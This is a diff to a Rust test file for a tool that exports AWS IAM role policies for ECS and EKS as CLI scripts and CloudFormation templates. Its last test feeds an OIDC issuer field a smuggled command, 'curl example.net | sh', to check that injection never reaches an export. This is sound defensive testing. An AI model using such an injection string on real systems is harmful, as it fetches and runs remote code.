@@ -33,6 +33,21 @@ fn golden_requests() -> Vec<(String, Request)> {
     requests
 }
 
+fn policy(response: &Response, id: &str) -> Option<Value> {
+    response
+        .documents
+        .iter()
+        .find(|d| d.id.as_str() == id)
+        .map(|d| serde_json::to_value(&d.policy).expect("serialises"))
+}
+
+fn is_existing(response: &Response, id: &str) -> bool {
+    response
+        .documents
+        .iter()
+        .any(|d| d.id.as_str() == id && d.origin == Origin::Existing)
+}
+
 fn scratch(name: &str) -> PathBuf {
     let dir = std::env::temp_dir().join(format!("ipb-exports-{}-{name}", std::process::id()));
     let _ = fs::remove_dir_all(&dir);
@@ -125,11 +140,28 @@ fn argument<'a>(call: &'a [String], flag: &str) -> Option<&'a str> {
         .map(String::as_str)
 }
 
-/// Every scope an export can have: each non-empty set of documents.
-fn every_scope() -> Vec<Vec<DocumentId>> {
-    (1_usize..1 << DocumentId::ALL.len())
+/// The documents built for a response's platform: the runner role's on EKS, ECS's three
+/// otherwise.
+fn platform_documents(response: &Response) -> Vec<DocumentId> {
+    let eks = response.target.runner_role.is_some();
+    DocumentId::ALL
+        .iter()
+        .copied()
+        .filter(|id| (id.role() == Role::Runner) == eks)
+        .collect()
+}
+
+/// Every scope an export of this response can have: each non-empty set of its platform's
+/// documents.
+fn every_scope(response: &Response) -> Vec<Vec<DocumentId>> {
+    subsets(&platform_documents(response))
+}
+
+/// Each non-empty set of these documents, in their order.
+fn subsets(documents: &[DocumentId]) -> Vec<Vec<DocumentId>> {
+    (1_usize..1 << documents.len())
         .map(|mask| {
-            DocumentId::ALL
+            documents
                 .iter()
                 .enumerate()
                 .filter(|(i, _)| mask & (1 << i) != 0)
@@ -320,7 +352,8 @@ fn the_aws_cli_script_of_every_scope_is_valid_bash_and_does_exactly_what_its_doc
     let mut shapes = BTreeSet::new();
     for (name, request) in golden_requests() {
         let response = build(&request);
-        if response.has_errors() {
+        // The EKS runner role has its own test below.
+        if response.has_errors() || response.target.runner_role.is_some() {
             continue;
         }
         let (task, execution) = (
@@ -331,9 +364,9 @@ fn the_aws_cli_script_of_every_scope_is_valid_bash_and_does_exactly_what_its_doc
         // each shape (what the script does with each role depends on nothing else, and
         // the CloudFormation test below checks every request in every scope).
         let scopes = if shapes.insert(shape(&response)) {
-            every_scope()
+            every_scope(&response)
         } else {
-            vec![DocumentId::ALL.to_vec()]
+            vec![platform_documents(&response)]
         };
         for scope in scopes {
             let case = format!("{name} / {}", scope_name(&scope));
@@ -503,10 +536,10 @@ fn cloudformation_json_of_every_scope_deployed_elsewhere_does_exactly_what_its_d
     let mut checked = 0;
     for (name, request) in golden_requests() {
         let response = build(&request);
-        if response.has_errors() {
+        if response.has_errors() || response.target.runner_role.is_some() {
             continue;
         }
-        for scope in every_scope() {
+        for scope in every_scope(&response) {
             let case = format!("{name} / {}", scope_name(&scope));
             let covered = Scope::of(&scope).expect("not empty");
             let exported = export_documents(&response, Format::CloudFormationJson, covered);
@@ -614,7 +647,7 @@ fn role_words(response: &Response, role: Role) -> Vec<String> {
     let (words, name) = match role {
         Role::Task => (
             ["TaskRole", "task_role", "taskRole", "TASK_ROLE"],
-            &response.target.task_role,
+            Some(&response.target.task_role),
         ),
         Role::Execution => (
             [
@@ -623,13 +656,17 @@ fn role_words(response: &Response, role: Role) -> Vec<String> {
                 "executionRole",
                 "EXECUTION_ROLE",
             ],
-            &response.target.execution_role,
+            Some(&response.target.execution_role),
+        ),
+        Role::Runner => (
+            ["RunnerRole", "runner_role", "runnerRole", "RUNNER_ROLE"],
+            response.target.runner_role.as_ref(),
         ),
     };
     words
         .iter()
         .map(|w| (*w).to_owned())
-        .chain([name.clone()])
+        .chain(name.cloned())
         .collect()
 }
 
@@ -638,7 +675,7 @@ fn every_format_exports_every_golden_request_in_every_scope_naming_no_role_it_le
     for (name, request) in golden_requests() {
         let response = build(&request);
         let whole = export(&response, Format::Json);
-        for scope in every_scope() {
+        for scope in every_scope(&response) {
             let covered = Scope::of(&scope).expect("not empty");
             for format in Format::ALL {
                 let case = format!("{name} / {} as {}", scope_name(&scope), format.id());
@@ -649,7 +686,7 @@ fn every_format_exports_every_golden_request_in_every_scope_naming_no_role_it_le
                     assert_eq!(exported, whole, "{case}");
                     continue;
                 }
-                for role in [Role::Task, Role::Execution] {
+                for role in Role::ALL {
                     if scope.iter().any(|id| id.role() == role) {
                         continue;
                     }
@@ -667,7 +704,7 @@ fn every_format_exports_every_golden_request_in_every_scope_naming_no_role_it_le
                 // Every error is about some document or about all of them, so an export of
                 // every document is ready exactly when the response has no error; one of
                 // some of them is not ready whenever they all are.
-                if scope == DocumentId::ALL {
+                if scope == platform_documents(&response) {
                     assert_eq!(
                         exported.not_ready.is_some(),
                         response.has_errors(),
@@ -757,7 +794,7 @@ fn an_error_about_a_document_left_out_does_not_hold_up_the_export_of_the_others(
         secrets: vec!["matillion/agent".into()],
         ..Request::default()
     });
-    for scope in every_scope() {
+    for scope in every_scope(&no_account) {
         let scope = Scope::of(&scope).expect("not empty");
         assert!(
             export_documents(&no_account, Format::AwsCli, scope)
@@ -808,7 +845,12 @@ fn each_scope_is_titled_by_its_roles_and_its_intro_names_the_aws_cli_only_when_o
                 .collect()
         })
         .collect();
-    for documents in every_scope() {
+    let ecs: Vec<DocumentId> = DocumentId::ALL
+        .iter()
+        .copied()
+        .filter(|id| id.role() != Role::Runner)
+        .collect();
+    for documents in subsets(&ecs) {
         let scope = Scope::of(&documents).expect("not empty");
         let task = documents.iter().any(|id| id.role() == Role::Task);
         let execution = documents.contains(&DocumentId::ExecutionRoleSecretsPolicy);
@@ -846,6 +888,25 @@ fn each_scope_is_titled_by_its_roles_and_its_intro_names_the_aws_cli_only_when_o
             );
         }
     }
+    // On EKS the one role is the runner role, whichever of its documents is shown.
+    for documents in subsets(&[
+        DocumentId::RunnerRoleTrustPolicy,
+        DocumentId::RunnerRolePermissionsPolicy,
+    ]) {
+        let scope = Scope::of(&documents).expect("not empty");
+        assert_eq!(scope.documents(), documents);
+        assert_eq!(scope.title(), "The runner role as code");
+        assert!(!scope.covers_role(Role::Task) && !scope.covers_role(Role::Execution));
+        assert_eq!(
+            scope.intro(&[Format::Cdk]),
+            "The runner role with its trust and permissions policies, for the tool you deploy with, with the role's name as a parameter."
+        );
+        assert!(
+            scope
+                .intro(&Format::ALL)
+                .ends_with(" The AWS CLI script can be run again to update it.")
+        );
+    }
     // The example docs page's widget: the secrets policy, Terraform and CloudFormation.
     let widget = Scope::of(&[DocumentId::ExecutionRoleSecretsPolicy]).expect("a document");
     assert_eq!(
@@ -856,6 +917,50 @@ fn each_scope_is_titled_by_its_roles_and_its_intro_names_the_aws_cli_only_when_o
         Scope::ALL.intro(&Format::ALL),
         "Both roles with their policies, for the tool you deploy with, with the role names as parameters. The AWS CLI script can be run again to update them."
     );
+}
+
+/// `--documents execution-role-secrets-policy` on an EKS request (or a runner document on an
+/// ECS one) names documents the request does not build: the export writes no role and says
+/// which documents to name instead.
+#[test]
+fn an_export_of_the_other_platforms_documents_writes_nothing_and_names_the_right_ones() {
+    let base = json!({
+        "account": "123456789012",
+        "region": "eu-west-1",
+        "secrets": ["matillion/agent"],
+    });
+    let ecs: Request = serde_json::from_value(base.clone()).expect("a request");
+    let mut eks = base;
+    eks["platform"] = json!("eks");
+    eks["oidcIssuer"] =
+        json!("https://oidc.eks.eu-west-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE");
+    let eks: Request = serde_json::from_value(eks).expect("a request");
+    let cases = [
+        (
+            ecs,
+            DocumentId::RunnerRoleTrustPolicy,
+            "none of the documents named is built for ECS Fargate: name task-role-trust-policy or execution-role-secrets-policy or task-role-permissions-policy",
+        ),
+        (
+            eks,
+            DocumentId::ExecutionRoleSecretsPolicy,
+            "none of the documents named is built for Amazon EKS: name runner-role-trust-policy or runner-role-permissions-policy",
+        ),
+    ];
+    for (request, other, said) in cases {
+        let response = build(&request);
+        assert!(!response.has_errors(), "{:?}", response.problems);
+        let scope = Scope::of(&[other]).expect("a document");
+        for format in Format::ALL {
+            let exported = export_documents(&response, format, scope);
+            if format == Format::Json {
+                assert_eq!(exported, export(&response, Format::Json));
+                continue;
+            }
+            assert_eq!(exported.not_ready.as_deref(), Some(said), "{}", format.id());
+            assert_eq!(exported.text, "", "{}", format.id());
+        }
+    }
 }
 
 #[test]
@@ -877,12 +982,12 @@ fn scopes_are_read_from_document_ids_as_widgets_take_them_and_bad_lists_are_expl
     let unknown = Scope::parse("execution-role-secrets-policy trust").expect_err("unknown");
     assert_eq!(
         unknown.to_string(),
-        "unknown document “trust” — use one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy"
+        "unknown document “trust” — use one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy, runner-role-trust-policy, runner-role-permissions-policy"
     );
     let empty = Scope::parse(" , ").expect_err("empty");
     assert_eq!(
         empty.to_string(),
-        "no document named — name at least one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy"
+        "no document named — name at least one of task-role-trust-policy, execution-role-secrets-policy, task-role-permissions-policy, runner-role-trust-policy, runner-role-permissions-policy"
     );
     assert_eq!(Scope::of(&[]), None);
     assert_eq!(Scope::of(DocumentId::ALL), Some(Scope::ALL));
@@ -968,4 +1073,162 @@ fn pasted_grants_of_everything_are_said_in_every_commented_export_on_one_line_ea
             .as_str()
             .is_some_and(|s| s.contains("trusts any principal"))
     );
+}
+
+/// On EKS: the script creates the runner role with exactly the core's trust policy (the
+/// issuer and provider ARN spliced in from their variables' defaults) and puts exactly its
+/// permissions policy; a role whose trust policy was pasted is never created.
+#[test]
+fn the_eks_aws_cli_script_hands_aws_exactly_the_runner_documents() {
+    let mut checked = 0;
+    for (name, request) in golden_requests() {
+        let response = build(&request);
+        let Some(role) = response.target.runner_role.clone() else {
+            continue;
+        };
+        if response.has_errors() {
+            continue;
+        }
+        let script = export(&response, Format::AwsCli).text;
+        let dir = scratch(&name);
+        let exists = is_existing(&response, "runner-role-trust-policy");
+        if exists {
+            let refused = run_script(&script, &[], &dir).expect_err("the script must stop");
+            assert!(refused.contains("does not exist"), "{name}: {refused}");
+        }
+        let runs: &[&[&str]] = if exists {
+            &[&[role.as_str()]]
+        } else {
+            &[&[], &[role.as_str()]]
+        };
+        for existing in runs {
+            let calls =
+                run_script(&script, existing, &dir).unwrap_or_else(|e| panic!("{name}: {e}"));
+            let mut sent = Vec::new();
+            for call in &calls {
+                let document = argument(call, "--policy-document")
+                    .or_else(|| argument(call, "--assume-role-policy-document"));
+                let Some(document) = document else { continue };
+                assert_eq!(argument(call, "--role-name"), Some(role.as_str()), "{name}");
+                let document: Value =
+                    serde_json::from_str(document).unwrap_or_else(|e| panic!("{name}: {e}"));
+                let expected = match (call[1].as_str(), argument(call, "--policy-name")) {
+                    ("create-role" | "update-assume-role-policy", _) => {
+                        policy(&response, "runner-role-trust-policy")
+                    }
+                    ("put-role-policy", Some("MatillionRunnerPermissions")) => {
+                        policy(&response, "runner-role-permissions-policy")
+                    }
+                    other => panic!("{name}: unexpected call {other:?}"),
+                };
+                assert_eq!(Some(document), expected, "{name}: {call:?}");
+                sent.push(call[1].clone());
+            }
+            assert!(
+                !sent.iter().any(|v| v == "create-role") || !exists,
+                "{name}: created the existing role"
+            );
+            assert!(
+                sent.iter().any(|v| v == "put-role-policy"),
+                "{name}: {sent:?}"
+            );
+            let expected_trust = if exists {
+                response.documents[0]
+                    .changes
+                    .as_ref()
+                    .is_some_and(|c| !c.is_empty())
+            } else {
+                true
+            };
+            assert_eq!(
+                sent.iter()
+                    .any(|v| v == "create-role" || v == "update-assume-role-policy"),
+                expected_trust,
+                "{name}: {sent:?}"
+            );
+        }
+        checked += 1;
+        let _ = fs::remove_dir_all(&dir);
+    }
+    assert!(checked >= 6, "only {checked} EKS requests");
+}
+
+/// On EKS: the CloudFormation JSON, deployed in another region and account with every
+/// parameter at its default, creates the runner role with the core's trust policy (the IRSA
+/// one a `Fn::Sub` string of JSON: its keys are made of the issuer) and its permissions.
+#[test]
+fn the_eks_cloudformation_template_deployed_elsewhere_grants_the_runner_documents() {
+    let mut checked = 0;
+    for (name, request) in golden_requests() {
+        let response = build(&request);
+        if response.has_errors() || response.target.runner_role.is_none() {
+            continue;
+        }
+        let template: Value =
+            serde_json::from_str(&export(&response, Format::CloudFormationJson).text)
+                .unwrap_or_else(|e| panic!("{name}: the template is not JSON: {e}"));
+        let resolved = |value: &Value| match resolve(value, &template, &response) {
+            Value::String(text) => {
+                serde_json::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}: {text}"))
+            }
+            other => other,
+        };
+        let resources = &template["Resources"];
+        if is_existing(&response, "runner-role-trust-policy") {
+            assert!(
+                resources.get("RunnerRole").is_none(),
+                "{name}: creates the existing role"
+            );
+            let properties = &resources["RunnerRolePolicy"]["Properties"];
+            assert_eq!(
+                resolve(&properties["RoleName"], &template, &response),
+                json!(response.target.runner_role),
+                "{name}"
+            );
+            assert_eq!(
+                Some(resolved(&properties["PolicyDocument"])),
+                policy(&response, "runner-role-permissions-policy"),
+                "{name}"
+            );
+        } else {
+            let role = &resources["RunnerRole"]["Properties"];
+            assert_eq!(
+                Some(resolved(&role["AssumeRolePolicyDocument"])),
+                policy(&response, "runner-role-trust-policy"),
+                "{name}"
+            );
+            assert_eq!(
+                Some(resolved(&role["Policies"][0]["PolicyDocument"])),
+                policy(&response, "runner-role-permissions-policy"),
+                "{name}"
+            );
+            if response.target.issuer.is_some() {
+                assert_eq!(
+                    template["Parameters"]["OidcIssuer"]["Default"],
+                    json!(response.target.issuer),
+                    "{name}"
+                );
+            }
+        }
+        checked += 1;
+    }
+    assert!(checked >= 6, "only {checked} EKS requests");
+}
+
+/// A hostile issuer can never reach an export: the reader refuses it, and the exports then
+/// say NOT READY and carry only placeholders where the issuer goes.
+#[test]
+fn no_text_typed_for_the_issuer_reaches_an_eks_export_unless_it_is_an_issuer() {
+    let request: Request = serde_json::from_value(json!({
+        "platform": "eks", "account": "123456789012", "region": "eu-west-1",
+        "secrets": ["matillion/agent"],
+        "oidcIssuer": "oidc.eks.eu-west-1.amazonaws.com/id/ABC'\"; curl example.net | sh; echo '",
+    }))
+    .expect("a request");
+    let response = build(&request);
+    assert!(response.has_errors());
+    for format in Format::ALL {
+        let text = export(&response, format).text;
+        assert!(!text.contains("curl"), "{format:?}");
+    }
 }
